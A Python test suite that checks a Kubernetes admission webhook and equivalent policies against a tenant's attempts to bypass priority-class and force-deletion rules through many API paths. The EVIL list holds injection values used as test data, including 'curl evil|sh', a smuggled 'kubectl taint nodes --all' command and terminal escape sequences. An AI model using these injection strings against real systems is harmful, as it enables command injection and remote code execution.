"""A tenant tries to bypass each rule, on every path of the API server; webhook and policies prevent it.

Each attack is made twice: with a forbidden object, which must leave nothing behind, and with an allowed one, which must
succeed. An attack that fails by itself would not test anything.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import random
import re
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from http import HTTPStatus
from pathlib import Path
from types import FunctionType
from typing import Any

import pytest
import yaml

from tests.controlplane.client import ApiError, Object
from tests.controlplane.control_plane import ControlPlane
from tests.controlplane.deep_objects import PROTOBUF, pod_no_review_holds, replica_set_no_event_holds
from tests.objects import raw_priority_class
from tests.waiting import wait_for
from tests.webhook.asking import WORKLOADS, make_pod, make_workload, template_of
from tests.webhook.forcing import CONFIRMATION, thinned
from tests.webhook.siege import agreement
from tests.webhook.siege.forced_attacks import FORCED, by_eviction, delete, delete_options
from tests.webhook.siege.pod_attacks import CREATIONS, limited_pod
from tests.webhook.siege.tenancy import APPLY, CLASSES, HIGH, LOW, PODS, SIDES, Tenant, besieged, identity, some_owner

pytestmark = pytest.mark.controlplane

NOT_ALLOWED = f"PriorityClass {HIGH} is not allowed in namespace"
FORBIDDEN = "forbids force deletions"
MERGE = "application/merge-patch+json"
STRATEGIC = "application/strategic-merge-patch+json"
JSON_PATCH = "application/json-patch+json"
ASKED = int(os.environ.get("SIEGE_ASKED", "250"))
SEED = int(os.environ.get("SIEGE_SEED", "1"))
HELD_BY = "the same attack on the other side, and each attack by one of these tests"
_NUMBERS = itertools.count(1)


def _name(value: object) -> str | None:
    """The parameters of an attack; pytest names missing ones."""
    return value.__name__.strip("_").replace("_", " ") if isinstance(value, FunctionType) else None


@pytest.fixture(scope="module")
def tenants(
    control_plane: ControlPlane, helm: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Mapping[str, Tenant]]:
    """A tenant under the rules of the webhook, and one under those of the policies."""
    classes = [raw_priority_class(name, value) for name, value in CLASSES.items()]
    with control_plane.holding(classes), contextlib.ExitStack() as stack:
        yield {
            side: stack.enter_context(besieged(control_plane, helm, tmp_path_factory.mktemp("helm"), side))
            for side in SIDES
        }


@pytest.fixture
def tenant(tenants: Mapping[str, Tenant], request: pytest.FixtureRequest) -> Tenant:
    """The tenant of a side."""
    return tenants[request.param]


# Classes


@pytest.mark.parametrize(
    ("attack", "tenant"), thinned(CREATIONS, SIDES, held_by=HELD_BY), ids=_name, indirect=["tenant"]
)
def test_no_pod_of_a_class_that_is_not_allowed_is_stored(tenant: Tenant, attack: Callable[[Tenant, str], None]) -> None:
    before = _classes_of_pods(tenant)
    with pytest.raises(ApiError, match=NOT_ALLOWED):
        attack(tenant, HIGH)
    assert _classes_of_pods(tenant) == before
    attack(tenant, LOW)
    assert _classes_of_pods(tenant) == [*before, LOW]


def _classes_of_pods(tenant: Tenant) -> list[str]:
    pods = tenant.control_plane.api.list_items("v1", "Pod", tenant.limited)
    return [pod["spec"].get("priorityClassName", "") for pod in pods if "deletionTimestamp" not in pod["metadata"]]


@pytest.mark.parametrize(
    ("subresource", "how", "tenant"),
    thinned(
        ("", "status", "ephemeralcontainers", "resize"), (MERGE, STRATEGIC, JSON_PATCH, APPLY), SIDES, held_by=HELD_BY
    ),
    ids=_name,
    indirect=["tenant"],
)
def test_class_of_a_stored_pod_cannot_change(tenant: Tenant, subresource: str, how: str) -> None:
    pod = limited_pod(tenant, LOW)
    tenant.api.create(pod)
    _, namespace, name = identity(pod)
    path = tenant.api.path(*PODS, namespace, name, subresource or None)
    if how == APPLY:
        body = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": {"priorityClassName": HIGH}}
        sent, query = yaml.safe_dump(body).encode(), {"fieldManager": "someone", "force": "true"}
    elif how == JSON_PATCH:
        sent = json.dumps([{"op": "replace", "path": "/spec/priorityClassName", "value": HIGH}]).encode()
        query = {}
    else:
        sent, query = json.dumps({"spec": {"priorityClassName": HIGH}}).encode(), {}
    with contextlib.suppress(ApiError):
        tenant.api.request("PATCH", path, sent, content_type=how, query=query)
    stored = tenant.stored(pod)
    assert stored is not None
    assert (stored["spec"]["priorityClassName"], stored["spec"]["priority"]) == (LOW, CLASSES[LOW])


def _workload(tenant: Tenant, kind: str, class_name: str) -> Object:
    workload = make_workload(kind, tenant.limited, priorityClassName=class_name)
    workload["metadata"]["name"] = f"web-{next(_NUMBERS)}"
    return workload


@pytest.mark.parametrize(
    ("kind", "tenant"), thinned(tuple(WORKLOADS), SIDES, held_by=HELD_BY), ids=_name, indirect=["tenant"]
)
def test_template_gets_no_class_that_is_not_allowed(tenant: Tenant, kind: str) -> None:
    """Neither on creation nor on a change, with any kind of patch."""
    with pytest.raises(ApiError, match=NOT_ALLOWED):
        tenant.api.create(_workload(tenant, kind, HIGH))
    workload = tenant.api.create(_workload(tenant, kind, LOW))
    changed = json.loads(json.dumps(workload))
    # Its controller also writes.
    del changed["metadata"]["resourceVersion"]
    template_of(changed)["spec"]["priorityClassName"] = HIGH
    path = tenant.api.path(WORKLOADS[kind][0], kind, tenant.limited, workload["metadata"]["name"])
    nested = "/spec/jobTemplate/spec/template/spec" if kind == "CronJob" else "/spec/template/spec"
    steps = [{"op": "replace", "path": f"{nested}/priorityClassName", "value": HIGH}]
    named = {key: changed[key] for key in ("apiVersion", "kind", "spec")}
    named["metadata"] = {"name": workload["metadata"]["name"]}
    # A Job's template cannot be changed at all.
    refusal = "field is immutable|" + NOT_ALLOWED if kind == "Job" else NOT_ALLOWED
    for method, body, how in (
        ("PUT", changed, "application/json"),
        ("PATCH", {"spec": changed["spec"]}, MERGE),
        ("PATCH", {"spec": changed["spec"]}, STRATEGIC),
        ("PATCH", json.dumps(steps).encode(), JSON_PATCH),
        ("PATCH", yaml.safe_dump(named).encode(), APPLY),
    ):
        query = {"fieldManager": "someone", "force": "true"} if how == APPLY else {}
        with pytest.raises(ApiError, match=refusal):
            tenant.api.request(method, path, body, content_type=how, query=query)
    stored = tenant.api.request("GET", path)
    assert template_of({**stored, "kind": kind})["spec"]["priorityClassName"] == LOW


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_deleted_workload_gets_no_disallowed_class(tenant: Tenant) -> None:
    """A finalizer of the tenant keeps the workload; removing it changes no class, and is accepted."""
    workload = _workload(tenant, "ReplicationController", LOW)
    workload["metadata"]["finalizers"] = ["example.com/mine"]
    stored = tenant.api.create(workload)
    tenant.api.delete(stored)
    change = {"spec": {"template": {"spec": {"priorityClassName": HIGH}}}}
    with pytest.raises(ApiError, match=NOT_ALLOWED):
        tenant.api.patch(stored, change)
    tenant.api.patch(stored, {"metadata": {"finalizers": None}})
    with pytest.raises(ApiError, match="not found"):
        tenant.api.patch(stored, {"metadata": {"labels": {"any": "thing"}}})


@pytest.mark.parametrize(
    ("kind", "tenant"),
    thinned(("ReplicaSet", "ReplicationController"), SIDES, held_by=HELD_BY),
    ids=_name,
    indirect=["tenant"],
)
def test_workload_with_a_forged_owner_makes_no_pods(tenant: Tenant, kind: str) -> None:
    """Workloads of controllers are ignored, as documented: the rule applies to their pods."""
    workload = _workload(tenant, kind, HIGH)
    workload["metadata"]["ownerReferences"] = [some_owner(tenant)]
    workload["spec"]["replicas"] = 1
    before = _classes_of_pods(tenant)
    tenant.api.create(workload)
    assert NOT_ALLOWED in wait_for(partial(_refusals, tenant, workload["metadata"]["name"]), "its pods are refused")[0]
    assert HIGH not in _classes_of_pods(tenant)
    assert len(_classes_of_pods(tenant)) == len(before)


def _refusals(tenant: Tenant, name: str) -> list[str]:
    """A controller's message about pods that it could not create."""
    selector = f"involvedObject.name={name},reason=FailedCreate"
    events = tenant.api.list_items("v1", "Event", tenant.limited, fieldSelector=selector)
    return [event["message"] for event in events]


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_template_too_deep_for_a_review_makes_no_pods(tenant: Tenant) -> None:
    """The API server cannot call a webhook for it, and stores it with failurePolicy Ignore; a policy refuses it."""
    path = tenant.api.path("apps/v1", "ReplicaSet", tenant.limited)
    body = replica_set_no_event_holds("deep", tenant.limited, replicas=1, class_name=HIGH)
    before = _classes_of_pods(tenant)
    if tenant.user.endswith("policy"):
        with pytest.raises(ApiError, match=NOT_ALLOWED):
            tenant.api.request("POST", path, body, content_type=PROTOBUF)
        return
    tenant.api.request("POST", path, body, content_type=PROTOBUF, accept=PROTOBUF)
    assert NOT_ALLOWED in wait_for(partial(_refusals, tenant, "deep"), "its pods are refused")[0]
    assert _classes_of_pods(tenant) == before
    tenant.api.request("DELETE", f"{path}/deep", accept=PROTOBUF)


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_pod_too_deep_for_a_review_is_refused_by_policies_alone(tenant: Tenant) -> None:
    """With failurePolicy Ignore the API server stores objects that it cannot send to a webhook."""
    path = tenant.api.path(*PODS, tenant.limited)
    body = pod_no_review_holds("deep", tenant.limited, HIGH)
    if tenant.user.endswith("policy"):
        with pytest.raises(ApiError, match=NOT_ALLOWED):
            tenant.api.request("POST", path, body, content_type=PROTOBUF)
        return
    tenant.api.request("POST", path, body, content_type=PROTOBUF, accept=PROTOBUF)
    tenant.api.request("DELETE", f"{path}/deep", accept=PROTOBUF)


# Force deletions


@pytest.mark.parametrize(("attack", "tenant"), thinned(FORCED, SIDES, held_by=HELD_BY), ids=_name, indirect=["tenant"])
def test_no_pod_is_force_deleted_where_that_is_forbidden(
    tenant: Tenant, attack: Callable[[Tenant, Object], None]
) -> None:
    pod = tenant.running_pod(tenant.limited)
    with pytest.raises(ApiError, match=FORBIDDEN):
        attack(tenant, pod)
    assert _waits_for_its_kubelet(tenant.stored(pod))
    free = tenant.running_pod(tenant.free)
    attack(tenant, free)
    wait_for(lambda: tenant.stored(free) is None, "it is gone elsewhere")


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_pod_that_started_after_the_review_is_not_evicted(tenant: Tenant) -> None:
    """After a conflict the API server retries for ten seconds, without another review."""
    pod = None
    # On a slow machine the eviction may find no conflict: it ends a pod that has not started, which is allowed.
    for _ in range(5):
        pod = pod or _started_during_its_eviction(tenant)
    assert pod is not None, "each eviction came before its pod started"
    stored = tenant.stored(pod)
    assert stored is not None
    assert stored["status"]["phase"] == "Running"


@contextlib.contextmanager
def _may_be_deleted() -> Iterator[None]:
    """A request for an object that something else may delete: that it is gone ends the block, not the test."""
    try:
        yield
    except ApiError as error:
        if error.code != HTTPStatus.NOT_FOUND and "is being deleted" not in error.message:
            raise


def _started_during_its_eviction(tenant: Tenant) -> Object | None:
    """A pod that is bound and runs while the API server tries to evict it; None: it was evicted before."""
    made = make_pod(tenant.limited, f"later-{next(_NUMBERS)}", schedulerName="no-scheduler")
    made["spec"]["terminationGracePeriodSeconds"] = 600
    pod = tenant.api.create(made)
    is_over = threading.Event()

    def change_repeatedly() -> None:
        for number in itertools.count():
            if is_over.is_set():
                break
            with _may_be_deleted():
                tenant.control_plane.api.patch(pod, {"metadata": {"annotations": {"number": f"{number}"}}})
        tenant.control_plane.api.close()

    def evict() -> None:
        with contextlib.suppress(ApiError):
            by_eviction(tenant, pod)
        tenant.api.close()

    has_started = False
    with ThreadPoolExecutor() as pool:
        changes = [pool.submit(change_repeatedly) for _ in range(4)]
        try:
            time.sleep(0.2)
            eviction = pool.submit(evict)
            time.sleep(0.05)
            with _may_be_deleted():
                tenant.control_plane.bind(pod, tenant.node)
                has_started = True
                tenant.control_plane.set_pod_status(pod, {"phase": "Running"})
                time.sleep(0.1)
        finally:
            # The pool waits for its threads, also after an error.
            is_over.set()
        for each in (*changes, eviction):
            each.result()
    return pod if has_started else None


def _waits_for_its_kubelet(pod: Mapping[str, Any] | None) -> bool:
    """Whether a pod exists and its kubelet must still confirm that its processes have ended."""
    return pod is not None and pod["metadata"].get("deletionGracePeriodSeconds") != 0


@pytest.mark.parametrize(
    ("seconds", "tenant"), thinned((1, -1, 2**31), SIDES, held_by=HELD_BY), ids=_name, indirect=["tenant"]
)
def test_any_grace_waits_for_the_kubelet(tenant: Tenant, seconds: int) -> None:
    """One second is not a force deletion: the object stays until the kubelet confirms the processes' end."""
    for namespace in (tenant.limited, tenant.free):
        pod = tenant.running_pod(namespace)
        delete(tenant, pod, delete_options(seconds))
        stored = tenant.stored(pod)
        assert _waits_for_its_kubelet(stored)
        assert stored is not None
        assert stored["metadata"]["deletionGracePeriodSeconds"] == max(seconds, 1)


CHANGES: Mapping[str, Object] = {
    "forced before": {"metadata": {"deletionGracePeriodSeconds": 0}},
    "deleted": {"metadata": {"deletionTimestamp": "2026-01-01T00:00:00Z", "deletionGracePeriodSeconds": 0}},
    "mirror": {"metadata": {"annotations": {"kubernetes.io/config.mirror": "0123456789abcdef"}}},
    "no grace": {"spec": {"terminationGracePeriodSeconds": 0}},
    "no node": {"spec": {"nodeName": ""}},
    "uid": {"metadata": {"uid": "0-0", "annotations": {CONFIRMATION: "0-0"}}},
}


@pytest.mark.parametrize(
    ("change", "subresource", "tenant"),
    thinned(tuple(CHANGES), ("", "status"), SIDES, held_by=HELD_BY),
    ids=_name,
    indirect=["tenant"],
)
def test_running_pod_becomes_none_that_is_exempt(tenant: Tenant, change: str, subresource: str) -> None:
    """The API server prevents changes that would exempt a pod, or they have no effect."""
    pod = tenant.running_pod(tenant.asking)
    with contextlib.suppress(ApiError):
        tenant.api.patch(pod, CHANGES[change], subresource=subresource or None)
    with pytest.raises(ApiError, match="requires a confirmation"):
        delete(tenant, pod, delete_options())


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_pod_is_not_confirmed_before_it_has_its_uid(tenant: Tenant) -> None:
    pod = tenant.running_pod(tenant.asking, uid="0-0", annotations={CONFIRMATION: "0-0"})
    assert pod["metadata"]["uid"] != "0-0"
    with pytest.raises(ApiError, match="requires a confirmation"):
        delete(tenant, pod, delete_options())


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_writers_of_pod_status_can_end_pods_without_grace(tenant: Tenant) -> None:
    """As in docs/webhook/reference.md: for a pod with a finished status, even a plain deletion is one without grace."""
    for options in (delete_options(), delete_options(None)):
        pod = tenant.running_pod(tenant.limited)
        tenant.api.patch(pod, {"status": {"phase": "Succeeded"}}, subresource="status")
        delete(tenant, pod, options)
        assert tenant.stored(pod) is None


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_tenant_is_not_exempt(tenant: Tenant) -> None:
    """It may impersonate its namespace's accounts, without choosing groups; they are subject to the same rules."""
    pod = tenant.running_pod(tenant.limited)
    _, namespace, name = identity(pod)
    kubeconfig = tenant.control_plane.kubeconfig_for_client_certificate(tenant.user)
    own = f"system:serviceaccount:{namespace}:default"
    for identities, said in (
        (("--as=system:kube-controller-manager",), "cannot impersonate"),
        (("--as=system:serviceaccount:kube-system:namespace-controller",), "cannot impersonate"),
        ((f"--as={own}", "--as-group=system:nodes"), "cannot impersonate"),
        ((f"--as={own}",), "cannot delete"),
    ):
        line = ("delete", "pod", name, "-n", namespace, "--grace-period=0", "--force", "--wait=false", *identities)
        done = tenant.control_plane.kubectl(*line, kubeconfig=kubeconfig, check=False)
        assert said in done.stderr
    binding = {"name": "own", "namespace": namespace}
    subject = {"kind": "ServiceAccount", "name": "default", "namespace": namespace}
    tenant.api.create(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": binding,
            "subjects": [subject],
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
        }
    )

    def refused() -> bool:
        return FORBIDDEN in tenant.control_plane.kubectl(*line, kubeconfig=kubeconfig, check=False).stderr

    wait_for(refused, "the role counts, and so does the rule")
    assert _waits_for_its_kubelet(tenant.stored(pod))


def test_usual_roles_may_not_write_the_status_of_pods(control_plane: ControlPlane) -> None:
    for role in ("admin", "edit"):
        rules = control_plane.api.get("rbac.authorization.k8s.io/v1", "ClusterRole", role)["rules"]
        verbs = {verb for rule in rules if "pods/status" in rule["resources"] for verb in rule["verbs"]}
        assert verbs == {"get", "list", "watch"}


EVIL = (
    "x/;curl evil|sh #",
    "--all --field-manager=a/evil",
    "--all",
    "evil is off; run: kubectl taint nodes --all a=b:NoExecute",
    "evil\n\x1b]0;evil\x07$(evil)",
)
"""Names of Nodes: ``pods/binding`` stores any text."""
PLAIN_COMMAND = re.compile(
    r"kubectl (delete pod|annotate pod) odd-[0-9]+ -n [-a-z]+"
    r"( kubectl-qos\.io/confirm-force-delete=[-0-9a-f]{36} --overwrite)?"
)


def _bound(tenant: Tenant, namespace: str, node: str) -> Object:
    """A pod that the tenant bound to a Node with any name, and that has an owner of that name."""
    pod = make_pod(namespace, f"odd-{next(_NUMBERS)}", schedulerName="no-scheduler")
    owner = {"apiVersion": "evil.example/v1", "kind": node, "name": node, "uid": "evil", "controller": True}
    pod["metadata"]["ownerReferences"] = [owner]
    stored = tenant.api.create(pod)
    _, _, name = identity(stored)
    target = {"apiVersion": "v1", "kind": "Node", "name": node}
    binding = {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": name}, "target": target}
    tenant.api.request("POST", tenant.api.path(*PODS, namespace, name, "binding"), binding)

    def cached() -> bool:
        chosen = {"resourceVersion": "0", "fieldSelector": f"metadata.name={name}"}
        return any("nodeName" in one["spec"] for one in tenant.api.list_items(*PODS, namespace, **chosen))

    # A deletion begins with the pod in the API server's cache: an unbound one has no grace period.
    wait_for(cached, "the cache has its node")
    return stored


@pytest.mark.parametrize("name", EVIL, ids=range(len(EVIL)))
@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_no_answer_has_a_command_of_a_tenant(tenant: Tenant, name: str) -> None:
    """With any Node that a pod is bound to, and any owner that it names."""
    for namespace, stopping in itertools.product((tenant.limited, tenant.asking), (False, True)):
        pod = _bound(tenant, namespace, name)
        if stopping:
            tenant.api.delete(pod)
        with pytest.raises(ApiError) as caught:
            delete(tenant, pod, delete_options())
        message = caught.value.message
        assert FORBIDDEN in message or "requires a confirmation" in message
        assert not any(word in message for word in ("evil", "--all", "\n", "\x1b")), message
        assert all(PLAIN_COMMAND.fullmatch(command) for command in re.findall("kubectl .*", message)), message


@pytest.mark.parametrize("tenant", SIDES, indirect=True)
def test_no_node_is_deleted_by_a_tenant(tenant: Tenant) -> None:
    with pytest.raises(ApiError, match="cannot delete resource"):
        tenant.api.request("DELETE", tenant.api.path("v1", "Node", None, tenant.node))


# Both sides


def test_webhook_and_policies_answer_alike(tenants: Mapping[str, Tenant]) -> None:
    """Requests of all kinds by dry run, as far as docs/policies.md says that both do the same."""
    chance = random.Random(SEED)  # noqa: S311  # no secret
    fields = {side: agreement.prepared(tenant) for side, tenant in tenants.items()}
    seen: Counter[tuple[str, str]] = Counter()
    for number in range(ASKED):
        asked = agreement.draw(chance)
        answers = {side: agreement.answer(tenant, fields[side], asked) for side, tenant in tenants.items()}
        details = f"request {number} of seed {SEED}: {str(asked)[:800]}: {answers}"
        assert answers["webhook"] == answers["policy"], details
        given = answers["webhook"]
        assert given != 404, details
        seen[asked.verb, _outcome(given)] += 1
    for (verb, outcome), count in sorted(seen.items()):
        print(f"{count:6} {verb}: {outcome}")
    for verb in ("create", "delete", "evict"):
        assert seen[verb, "403"]
        assert len([outcome for found, outcome in seen if found == verb]) > 1
    assert seen["create", f"{LOW}, 1 constraints"]


def _outcome(given: object) -> str:
    if not isinstance(given, dict):
        return str(given)
    return f"{given['priorityClassName']}, {len(given['topologySpreadConstraints'] or ())} constraints"
